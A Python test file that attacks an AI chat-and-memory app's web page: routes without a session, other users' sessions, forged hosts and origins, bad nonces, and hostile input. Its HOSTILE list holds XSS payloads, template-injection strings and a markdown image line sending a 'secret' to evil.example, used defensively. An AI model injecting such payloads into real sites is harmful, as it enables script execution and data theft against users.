"""Attacks on the web page: every route by everybody it isn't for, and hostile words in every field."""

from __future__ import annotations

import asyncio
import re
import sqlite3
from collections.abc import AsyncIterator, Mapping
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from gateway.page.routes import ROUTES
from gateway.page.visitors import leave_code
from memory.store.sqlite import health
from tests.kit.served import ANN, BOB, TELEGRAM_TOKEN, Served
from tests.kit.visit import Guest, Page, paged
from tests.platforms.telegram import serving as serving_telegram

pytestmark = pytest.mark.campaign

#: The values for the parts of routes; memories and turns are filled in.
PARTS = {"thread": "main", "run": "1", "row": "1", "version": "x", "message": "x", "nth": "0", "form": "md"}
FORM = {
    "text": "attacked", "value": "attacked", "action": "pin", "which": "all", "agent": "assistant", "data": "x",
    "key": "x",
}  # fmt: skip
#: Tables that a search brings up to date.
_INDEXES = (*health.WORDS, "words", "changes", "unembedded", "sqlite_")
OPEN = {route.pattern for route in ROUTES if route.open}


@pytest.fixture
async def page(tmp_path: Path, unused_tcp_port: int) -> AsyncIterator[Page]:
    async with paged(tmp_path, port=unused_tcp_port) as found:
        yield found


async def known(guest: Guest) -> dict[str, str]:
    """The parts of routes that lead to something of this guest."""
    await guest.told("/memory", at="/memory", value="My sister Marta Keller keeps the canary key")
    await guest.say("what does Marta Keller keep?")
    found = (await guest.get("/memory")).text.partition('href="/memory/')[2]
    chat = (await guest.get("/chat/main")).text
    turn, key = (chat.partition(mark)[2].partition('"')[0] for mark in ('href="/why/', 'href="/chat/main/edit/'))
    name = (await guest.get("/entities")).text.partition('<a href="/entities/')[2]
    ids = {"id": found.partition('"')[0], "turn": turn, "key": key, "name": name.partition('"')[0]}
    assert all(ids.values())
    return PARTS | ids


def path_of(pattern: str, parts: Mapping[str, str]) -> str:
    named = parts["name"] if pattern.startswith("/entities") else None
    return re.sub(r"\{(\w+)\}", lambda part: named or parts[part[1]], pattern)


def everything(page: Page) -> dict[str, list[tuple[Any, ...]]]:
    """All rows of the database but the indexes, which a search brings up to date."""
    with closing(sqlite3.connect(f"file:{page.data}/remora.db?mode=ro", uri=True)) as connection:
        named = connection.execute("select name from sqlite_schema where type = 'table' and sql not like '%virtual%'")
        tables = [name for (name,) in named if not name.startswith(_INDEXES)]
        return {name: connection.execute(f"select * from {name} order by 1").fetchall() for name in tables}


async def test_nothing_is_there_for_anybody_without_a_session(page: Page) -> None:
    ada = await page.signed_in("ada")
    parts, nonce = await known(ada), await ada.nonce()
    tokens = ("", "x", "x" * 500, ada.client.cookies["remora"][:-1])
    nobody = page.guest()
    for route in ROUTES:
        if route.pattern in OPEN:
            continue
        path = path_of(route.pattern, parts)
        for token in tokens:
            cookie = {"Cookie": f"remora={token}"}
            if route.method == "GET":
                answer = await nobody.get(path, **cookie)
                assert (answer.status_code, answer.headers.get("Location")) == (303, "/in"), path
            else:
                answer = await nobody.post(path, **FORM, nonce=nonce, headers=cookie)
                assert answer.status_code == 401, path
            assert "canary" not in answer.text
    assert "canary" in await ada.text("/memory")


async def test_nobody_sees_or_changes_what_is_somebody_elses(page: Page) -> None:
    ada, eve = await page.signed_in("ada"), await page.signed_in("eve")
    parts, nonce = await known(ada), await ada.nonce()
    for route in ROUTES:
        path = path_of(route.pattern, parts)
        if route.method == "GET" and not path.endswith("/events"):
            assert "canary" not in (await eve.get(path)).text, path
        elif route.method == "POST" and route.pattern not in OPEN:
            answer = await eve.post(path, **FORM, nonce=nonce)
            # Pages of admins are none for others, whatever they send.
            expected = 404 if path.startswith("/admin") else 403
            assert answer.status_code == expected, f"{path}: a word of another session"
            if path != "/out":
                answer = await eve.post(path, **FORM)
                assert "canary" not in answer.text, path
    assert "canary" in await ada.text("/memory") and "attacked" not in await ada.text("/chat/main")


async def test_other_sites_reach_nothing(page: Page) -> None:
    """Whatever name they give this machine, and with the cookie, which a browser sends along."""
    ada = await page.signed_in("ada")
    parts, nonce = await known(ada), await ada.nonce()
    before = await ada.text("/memory")
    for route in ROUTES:
        path = path_of(route.pattern, parts)
        for host in ("evil.example", "remora.localhost.evil.example", "127.0.0.1.nip.io", "", "localhost@evil.example"):
            answer = await ada.client.request(route.method, path, headers={"Host": host})
            assert answer.status_code == 421 and "canary" not in answer.text, (path, host)
        if route.method != "POST":
            continue
        for headers in (
            {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "none"}, {},
            {"Origin": "https://evil.example"}, {"Origin": "null"},
            {"Sec-Fetch-Site": "cross-site", "Origin": page.url},
            {"Origin": page.url.replace("http", "https")}, {"Origin": page.url + "0"},
        ):  # fmt: skip
            answer = await ada.client.post(path, data=FORM | {"nonce": nonce}, headers=headers)
            assert answer.status_code == 403, (path, headers)
        assert (await ada.client.post(path, data=FORM, headers={"Origin": page.url})).status_code != 200
        assert (await ada.client.put(path)).status_code in (404, 405)
    assert await ada.text("/memory") == before


async def test_a_form_needs_the_word_of_its_own_session(page: Page) -> None:
    ada = await page.signed_in("ada")
    nonce = await ada.nonce()
    for word in ("", "x", nonce[:-1], nonce.upper() + "0", f"{nonce}0", "." + nonce, "é.é"):
        answer = await ada.post("/memory", value="attacked", nonce=word)
        assert answer.status_code == 403, word
    assert "attacked" not in await ada.text("/memory")
    assert (await ada.post("/memory", value="I am well", nonce=nonce)).status_code == 303


async def test_a_get_changes_nothing(page: Page) -> None:
    """Not a row of the database, whatever stands in the address, and for an admin of the machine, too."""
    ada = await page.signed_in("you")
    parts = await known(ada)
    before = everything(page)
    assert before["memories"] and before["messages"] and before["web_sessions"]
    for route in ROUTES:
        path = path_of(route.pattern, parts)
        if not path.endswith("/events"):
            for query in ("", "?action=forget&which=all&text=attacked&value=attacked&q=canary"):
                await ada.get(path + query)
                await ada.client.head(path + query)
    after = everything(page)
    assert {name for name in before if before[name] != after[name]} == set()


async def test_who_may_not_speak_any_more_is_out_everywhere(tmp_path: Path, unused_tcp_port: int) -> None:
    """Blocked by an admin, or no longer in the configuration, former admins among them."""
    async with serving_telegram((TELEGRAM_TOKEN,)) as telegram:
        served = Served(tmp_path, telegram=telegram, port=unused_tcp_port, web="{enabled: true}")
        guests: dict[int, Guest] = {}
        async with paged(tmp_path, port=unused_tcp_port, served=served) as page:
            for person in (ANN, BOB):
                await telegram.say("/web", user=person, name=f"N{person}")
                await telegram.wait(chat=person, bot_messages=1)
                code = (await telegram.texts(person))[-1].split()[0].partition("#")[2]
                guests[person] = page.guest()
                assert (await guests[person].post("/in", code=code)).status_code == 303
            parts = await known(guests[BOB])
            nonce = await guests[BOB].nonce()
            await guests[ANN].say("/agents")
            assert "No such command" not in await guests[ANN].text("/memory")
            assert "/allow" not in await guests[ANN].text("/chat/main"), "nobody is an admin on the page"
            await telegram.say(f"/block {BOB}", user=ANN)
            await telegram.wait(chat=ANN, bot_messages=2)
            for route in ROUTES:
                if route.pattern in OPEN:
                    continue
                path = path_of(route.pattern, parts)
                if route.method == "GET":
                    assert (await guests[BOB].get(path)).status_code == 303, path
                else:
                    assert (await guests[BOB].post(path, **FORM, nonce=nonce)).status_code == 401, path
            cookie = guests[ANN].client.cookies["remora"]
        config = (tmp_path / "config.yaml").read_text().replace(f"[{ANN}, {BOB}]", "[99]").replace(f"[{ANN}]", "[99]")
        served_again = Served(tmp_path, telegram=telegram, port=unused_tcp_port, web="{enabled: true}")
        (tmp_path / "config.yaml").write_text(config)
        async with paged(tmp_path, port=unused_tcp_port, served=served_again) as page:
            former = page.guest()
            former.client.cookies.set("remora", cookie)
            assert (await former.get("/me")).headers["Location"] == "/in"


async def test_a_code_is_spent_by_one_of_many_at_once(page: Page) -> None:
    leave_code(page.data, "one-code", "ada")
    answers = await asyncio.gather(*(page.guest().post("/in", code="one-code") for _ in range(12)))
    assert sorted(answer.status_code for answer in answers) == [303] + [403] * 11


async def test_large_bodies_are_refused_before_they_are_read(page: Page) -> None:
    nobody, ada = page.guest(), await page.signed_in()
    for path in ("/in", "/chat/main/say", "/memory"):
        answer = await nobody.client.post(path, content=b"x" * 300_000, headers={"Sec-Fetch-Site": "same-origin"})
        assert answer.status_code == (413 if path == "/in" else 401), path
    answer = await ada.client.post("/memory", content=b"x" * 300_000, headers={"Sec-Fetch-Site": "same-origin"})
    assert answer.status_code == 413
    for kind in ("text/plain", "application/json", "multipart/form-data; boundary=x", "multipart/form-data"):
        headers = {"Sec-Fetch-Site": "same-origin", "Content-Type": kind}
        answer = await ada.client.post("/memory", content=b'{"nonce": "x"}\xff', headers=headers)
        assert answer.status_code in (400, 403, 415), kind


# Hostile words -------------------------------------------------------------------------------------------------

HOSTILE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'onmouseover='alert(1)",
    "![x](https://evil.example/?q=secret)", "[x](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "{{ visitor.token }}", "{% for x in ().__class__.__bases__ %}x{% endfor %}", "</textarea><script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]", "<a href='//evil.example' hx-get='/memory' hx-trigger='load'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202e<b>x</b>\u0000",
)  # fmt: skip
#: The tags of which the page itself is made.
TAGS = {
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "img", "span", "nav", "form", "input", "label", "select",
    "option", "button", "main", "section", "h1", "h2", "h3", "p", "div", "aside", "details", "summary", "ul", "ol", "li", "small",
    "article", "time", "noscript", "textarea", "dl", "dt", "dd", "meter", "blockquote", "footer", "code", "ins", "del", "kbd", "mark", "svg", "g",
    "rect", "line", "circle", "text", "path", "figure", "figcaption", "table", "caption", "thead", "tbody", "tr", "th", "td", "em", "strong",
    "pre", "hr", "br", "i", "s",
}  # fmt: skip
#: Attributes in which a word could act.
ACTING = re.compile(r"on\w+|style|srcdoc|hx-on.*|formaction|background|ping")


class Reader(HTMLParser):
    """Reads a page as a browser would, and notes what could act."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.open = tag
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            own = name == "formaction" and str(value).startswith("/chat/")
            if ACTING.fullmatch(name) and not own:
                self.found.append(f"{tag} {name}")
            if name in ("src", "href", "action") and not re.match(r"/|#|https?://|mailto:|$", value or ""):
                self.found.append(f"{tag} {name}={value}")
        if tag in ("img", "script", "link") and not str(given.get("src") or given.get("href")).startswith(
            ("/static/", "/manifest.webmanifest", "/chat/hostile/sent/")
        ):
            self.found.append(f"{tag} {given}")
        if any(name.startswith("hx-") for name in given) and given.get("class") != "search":
            self.found.append(f"{tag} {given}")

    def handle_data(self, data: str) -> None:
        if self.open == "script" and data.strip():
            self.found.append(data)


def acting(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    return reader.found


async def test_words_never_act(page: Page) -> None:
    """As messages, memories, names, corrections, searches, files, and in addresses."""
    ada = await page.signed_in('<script>alert("name")</script>')
    for number, words in enumerate(HOSTILE):
        await ada.say(words, thread="hostile", files={"file": (words, b"x", "text/plain")} if number < 3 else None)
        await ada.post("/memory", at="/memory", value=f"My friend is called {words}")
    await ada.post("/memory", at="/memory", value="I live in Bern")
    at = "/memory/" + (await ada.get("/memory?q=Bern")).text.partition('href="/memory/')[2].partition('"')[0]
    await ada.post(at, at=at, action="edit", value=HOSTILE[0])
    paths = ["/chat/hostile", "/memory", "/timeline", "/entities", "/night", "/me", at, f"{at}'\"><script>"]
    html = (await ada.get("/memory")).text
    paths += [f"/memory/{one}" for one in sorted(set(re.findall(r'href="/memory/(m_\w+)"', html)))[:12]]
    paths += [f"/why/{one}" for one in re.findall(r'href="/why/(\d+)"', (await ada.get("/chat/hostile")).text)[:4]]
    paths += re.findall(r'href="(/entities/\d+)"', (await ada.get("/entities")).text)[:6]
    paths += [f"/memory?q={quote(words)}" for words in HOSTILE]
    paths += [f"/chat/{words}" for words in ("<b>", "%3Cscript%3E", "..%2f", "%00")]
    assert len(paths) > 30
    for path in paths:
        answer = await ada.get(path)
        assert answer.status_code in (200, 303, 404), path
        assert acting(answer.text) == [], path
        assert "visitor.token" not in answer.text or "{{ visitor.token }}" in answer.text
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy and "frame-ancestors 'none'" in policy
        assert answer.headers["Cache-Control"] == "no-store" and answer.headers["Referrer-Policy"] == "no-referrer"


def test_the_reader_of_this_test_sees_what_acts() -> None:
    """A test that finds nothing must be able to find something."""
    for words in (
        "<script>x</script>",
        "<img src=https://evil.example>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<b>",
        "<p style=x>",
    ):
        assert acting(words), words
